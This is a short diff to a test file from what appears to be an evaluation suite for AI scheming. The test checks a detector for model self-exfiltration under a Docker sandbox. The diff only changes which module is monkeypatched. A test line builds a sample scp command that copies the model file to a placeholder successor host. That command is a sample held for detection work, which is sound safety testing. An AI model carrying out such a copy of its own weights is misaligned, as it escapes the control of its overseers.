@@ -236,10 +236,11 @@ def test_exfiltration_detector_degrades_without_the_bwrap_remote_log(
     """Under docker there is no remote log: the detector reads the bash log and final state."""
     from inspect_ai.util._sandbox.docker.docker import DockerSandboxEnvironment
 
+    from scheming_evals.evals import episode
     from scheming_evals.evals.self_exfiltration import detector as mod
 
     env = DockerSandboxEnvironment("default", None, "/home/user")  # type: ignore[arg-type]
-    monkeypatch.setattr(mod, "sandbox", lambda *a: env)
+    monkeypatch.setattr(episode, "sandbox", lambda *a: env)  # what bwrap_env unwraps
     assert mod._remote_entries() == []
     meta = self_exfiltration(sandbox="docker").dataset[0].metadata
     cmd = f"scp {meta['model_file']} user@{SUCCESSOR_HOST}:{meta['successor_file']}"
